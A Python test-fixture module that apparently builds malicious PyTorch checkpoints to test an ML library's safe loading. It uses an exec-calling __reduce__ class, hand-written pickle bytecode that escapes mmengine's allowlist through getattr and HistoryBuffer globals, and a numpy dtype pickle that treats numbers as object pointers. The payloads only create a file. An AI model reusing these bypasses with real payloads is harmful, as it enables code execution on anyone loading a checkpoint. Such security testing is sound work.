# Copyright (c) mmlinglo contributors. Licensed under Apache-2.0.
"""Checkpoints that would run code, written by hand or by pickle. All that the code does is to write a file."""

import builtins
import io
import struct
import zipfile

import torch


class WritesFile:
    """Unpickled in full, it writes a file."""

    def __init__(self, path) -> None:
        self.path = path

    def __reduce__(self):
        return builtins.exec, (f'open({str(self.path)!r}, "w").close()',)


def text(value: str) -> bytes:
    return b'X' + struct.pack('<I', len(value.encode())) + value.encode()


def named(module: str, name: str) -> bytes:
    return f'c{module}\n{name}\n'.encode()


def call(function: bytes, *args: bytes) -> bytes:
    return function + b'(' + b''.join(args) + b'tR'


GETATTR = named('__builtin__', 'getattr')
HISTORY = named('mmengine.logging.history_buffer', 'HistoryBuffer')


def getattr_exploit(path, scope='__globals__') -> bytes:
    """Of nothing but getattr and HistoryBuffer, both of which mmengine's own safe reading allows.

    HistoryBuffer.__init__.__globals__['len'] = exec; HistoryBuffer(code) calls len(code).
    """
    code = f'open({str(path)!r}, "w").close()'
    execute = call(GETATTR, call(GETATTR, GETATTR, text('__self__')), text('exec'))
    names = call(GETATTR, call(GETATTR, HISTORY, text('__init__')), text(scope))
    assign = text('scope') + names + text('len') + execute + b's' + b's'
    return b'\x80\x02}' + assign + text('code') + call(HISTORY, text(code)) + b's.'


def builtins_exploit(path) -> bytes:
    """The same for the whole process."""
    return getattr_exploit(path, '__builtins__')


def dtype_exploit(_path=None) -> bytes:
    """A copy of float64 whose numbers numpy takes for addresses of objects."""
    dtype = call(named('numpy', 'dtype'), text('f8'), b'\x89', b'\x88')
    state = b'(K\x03' + text('|') + b'NNN' + b'J\xff\xff\xff\xff' * 2 + b'K?' + b't'
    return b'\x80\x02}' + text('dtype') + dtype + state + b'b' + b's.'


def save_pickle(path, content: bytes) -> None:
    """Write a pickle into the archive that torch.save makes."""
    buffer = io.BytesIO()
    torch.save({}, buffer)
    source = zipfile.ZipFile(buffer)
    with zipfile.ZipFile(path, 'w') as archive:
        for name in source.namelist():
            archive.writestr(name, content if name.endswith('data.pkl') else source.read(name))
